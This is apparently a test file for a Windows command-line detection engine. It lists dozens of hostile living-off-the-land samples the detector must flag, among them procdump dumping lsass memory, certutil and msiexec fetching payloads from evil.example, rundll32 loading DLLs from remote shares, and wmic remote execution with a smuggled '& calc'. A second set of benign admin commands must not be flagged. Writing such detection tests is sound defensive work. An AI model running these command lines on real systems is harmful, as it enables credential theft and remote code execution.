import { describe, expect, test } from 'vitest'
import { scored } from '@/fixtures/detection/score-lines'
import { readToolUse } from '@/lib/pipeline/catalogue/tools/read-tool-use'
import { placedIn } from '@/lib/pipeline/catalogue/tools/working-directory'

const DEVIATION = 4
const MSDEPLOY = String.raw`msdeploy.exe@C:\Program Files\IIS\Microsoft Web Deploy V3\msdeploy.exe`
const BROWSER = String.raw`vslaunchbrowser.exe@C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\IDE\VSLaunchBrowser.exe`

describe('what is excused is not excused for a word somewhere on the line', () => {
  test.each([
    'procdump.exe ¦ procdump -accepteula -ma lsass.exe -n 1 ¦ cmd.exe ¦ SYSTEM',
    'procdump.exe ¦ procdump -ma -n 1 KeePass.exe ¦ cmd.exe',
    'procdump.exe ¦ procdump -ma "6248" ¦ wsmprovhost.exe',
    String.raw`installutil.exe ¦ InstallUtil.exe /logfile=bin\debug\a.log /U evil.dll ¦ cmd.exe`,
    String.raw`regasm.exe ¦ RegAsm.exe /U evil.dll /tlb:bin\Debug\a.tlb ¦ cmd.exe`,
    String.raw`regasm.exe ¦ RegAsm.exe /U ..\..\Public\bin\Debug\evil.dll ¦ cmd.exe`,
    'pcwrun.exe ¦ pcwrun.exe /../../$(calc).exe CompatTab ¦ explorer.exe',
    String.raw`pcwrun.exe ¦ pcwrun.exe E:\setup.exe CompatTab ¦ explorer.exe`,
    `${MSDEPLOY} ¦ msdeploy.exe -verb:sync -dest:contentPath=C:\\inetpub\\wwwroot -source:contentPath=C:\\x,computername=https://evil.example/msdeploy.axd ¦ cmd.exe`,
    `${MSDEPLOY} ¦ msdeploy.exe -verb:sync -dest:auto,computername=https://localhost ${'-setParam:a=b '.repeat(40)}-source:package=https://evil.example/a.zip ¦ cmd.exe`,
    `${MSDEPLOY} ¦ msdeploy.exe -verb:sync -source:package=\\\\evil.example\\a.zip -dest:auto,computername=https://localhost ¦ cmd.exe`,
    'rundll32.exe ¦ rundll32.exe url.dll,OpenURL http://evil.example/x.html ¦ winword.exe',
    'rundll32.exe ¦ rundll32.exe url.dll,FileProtocolHandler ms-msdt:/id%20PCWDiagnostic/a.txt ¦ winword.exe',
    String.raw`rundll32.exe ¦ rundll32.exe shell32.dll,ShellExec_RunDLL C:\Users\ann\Downloads\invoice.html ¦ outlook.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe shell32.dll,OpenAs_RunDLL C:\Users\ann\order.iso ¦ outlook.exe`,
    `${BROWSER} ¦ VSLaunchBrowser.exe .exe https://evil.example/a.exe http://localhost ¦ cmd.exe`,
    `${BROWSER} ¦ VSLaunchBrowser.exe .exe http://localhost:1/a.exe ¦ devenv.exe`,
    String.raw`certutil.exe ¦ certutil -pin x -encode C:\a\evil.zip x.txt ¦ cmd.exe`,
    'certutil.exe ¦ certutil -encode -pin x evil.exe x.txt ¦ cmd.exe',
    String.raw`rundll32.exe ¦ rundll32.exe C:\Windows\Temp\evil.dll,Run x\printui.dll,PrintUIEntry a ¦ cmd.exe`,
    String.raw`rundll32.exe ¦ rundll32.exe \\evil.example\s\evil.dll,Run x\printui.dll,PrintUIEntry a ¦ cmd.exe`,
    String.raw`regsvr32.exe ¦ regsvr32 /s /n /i:C:\b\c\d\e C:\a\evil.dll ¦ cmd.exe`,
    String.raw`regsvr32.exe ¦ regsvr32 /s C:\b\c\d\e.dll C:\a\evil.dll ¦ cmd.exe`,
    String.raw`vbc.exe ¦ vbc.exe "/stext" "C:\a.txt" ¦ -`,
    'msbuild.exe ¦ msbuild.exe /stext x ¦ -',
    String.raw`remote.exe@C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\remote.exe ¦ remote.exe "/s" "powershell.exe -nop" session ¦ cmd.exe`,
    String.raw`cscript.exe ¦ cscript.exe ..\..\..\Public\q.vbs ..\x\y ¦ cmd.exe`,
    String.raw`wscript.exe ¦ wscript ..\q.js ¦ explorer.exe`,
    String.raw`installutil.exe ¦ InstallUtil.exe /U "C:\Program Files\App\x.dll" C:\Users\Public\evil.dll ¦ winword.exe`,
    String.raw`certutil.exe ¦ certutil -encode C:\a\evil.exe a.pfx -f ¦ cmd.exe`,
    String.raw`certutil.exe ¦ certutil -encode -config a.pfx C:\a\evil.exe b.txt ¦ cmd.exe`,
    String.raw`bitsadmin.exe ¦ bitsadmin /transfer v http://srv/a.exe C:\x\a.exe http://srv/v.txt C:\x\v.txt ¦ cmd.exe`,
    String.raw`certutil.exe ¦ certutil -urlcache -f http://evil.example/v.txt C:\x\v.txt ¦ cmd.exe`,
    String.raw`diskshadow.exe ¦ diskshadow /s C:\x\d.txt C:\x\y\a.dsh ¦ cmd.exe`,
    String.raw`diskshadow.exe ¦ diskshadow /s C:\x.dsh ¦ cmd.exe`,
    'wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c gpupdate /force & calc" ¦ cmd.exe',
    String.raw`wmic.exe ¦ wmic /node:PC7 process call create "cmd.exe /c C:\x\evil.exe gpupdate" ¦ cmd.exe`,
    String.raw`wmic.exe ¦ wmic /node:PC7 process call create "C:\Windows\System32\calc.exe process call create gpupdate" ¦ cmd.exe`,
    String.raw`cmstp.exe ¦ cmstp.exe /s /AU /ns "C:\ProgramData\Corp\VPN\corp.inf" ¦ powershell.exe`,
    'msiexec.exe ¦ msiexec /i http://+.evil.example:8080/a.msi /q ¦ cmd.exe',
    'rundll32.exe ¦ rundll32.exe davclnt.dll,DavSetCookie localhost.evil.example@SSL https://localhost.evil.example/a ¦ cmd.exe',
    String.raw`rundll32.exe ¦ rundll32.exe C:\ProgramData\App\Logs\a.log,Run ¦ cmd.exe`,
    String.raw`msbuild.exe ¦ MSBuild.exe C:\Windows\Logs\CBS\a.txt ¦ cmd.exe`,
  ])('%s', (line) => {
    const { bits, codes } = scored(line)
    expect(bits, codes.join(' ')).toBeGreaterThanOrEqual(DEVIATION)
  })
})

describe('nor is what people do raised for one', () => {
  test.each([
    'procdump.exe ¦ procdump -accepteula -ma -s 5 -n 3 w3wp.exe ¦ wsmprovhost.exe',
    `${MSDEPLOY} ¦ msdeploy.exe -verb:sync -source:package=C:\\out\\site.zip -dest:auto,ComputerName='https://site.example:443/msdeploy.axd?site=site',UserName='u' ¦ cmd.exe`,
    `wmic.exe ¦ wmic process where "caption like '%chrome%'" delete ¦ winrshost.exe`,
    String.raw`ftp.exe ¦ ftp -i -s:D:\jobs\edi\up.txt 198.51.100.7 ¦ cmd.exe`,
    'ftp.exe ¦ ftp -s:up.txt 169.254.1.1 ¦ cmd.exe',
    String.raw`pcalua.exe ¦ pcalua.exe -a "C:\Users\ann\AppData\Roaming\Telegram Desktop\Telegram.exe" ¦ explorer.exe`,
    String.raw`mofcomp.exe ¦ mofcomp "C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2301.6-0\ProtectionManagement.mof" ¦ powershell.exe ¦ SYSTEM`,
    String.raw`cscript.exe ¦ cscript.exe //nologo C:\ProgramData\Vendor\Agent\inv.vbe ¦ agent.exe@C:\Program Files\Vendor\agent.exe ¦ SYSTEM`,
  ])('%s', (line) => {
    const { bits, codes } = scored(line)
    expect(bits, codes.join(' ')).toBeLessThan(DEVIATION)
  })
})

test('what was built counts as built where developers work, and not where others leave what they brought', () => {
  const use = readToolUse(
    'regsvcs.exe',
    String.raw`regsvcs.exe bin\Debug\a.dll`,
    String.raw`C:\Windows\regsvcs.exe`,
  )
  if (use === null) throw new Error('it is a command line')
  const factsIn = (workingDirectory: string) =>
    placedIn('regsvcs.exe', use, { workingDirectory, parent: 'cmd.exe @ system' }).facts
  expect(factsIn(String.raw`C:\Users\ann\source\repos\app`)).toContain('build-folder')
  expect(factsIn(String.raw`C:\Users\Public`)).toContain('public-folder')
  expect(factsIn(String.raw`C:\Users\ann\Downloads`)).toContain('downloads')
})

test('what is stopped by what it is called like is told so however it is spelled', () => {
  for (const clause of [
    `"name like '%sql%'"`,
    `"name like 'sql%'"`,
    `"name like'%sql%'"`,
    `"name like '_%sql%'"`,
  ])
    expect(scored(`wmic.exe ¦ wmic process where ${clause} call terminate ¦ cmd.exe`).codes).toContain(
      'stops-many',
    )
})

test('a number in any spelling is a stranger’s address', () => {
  for (const server of ['203.0.113.9', '3405803785', '0xcb007109'])
    expect(scored(`ftp.exe ¦ ftp -s:x.txt ${server} ¦ cmd.exe`).codes, server).toContain('address-host')
})
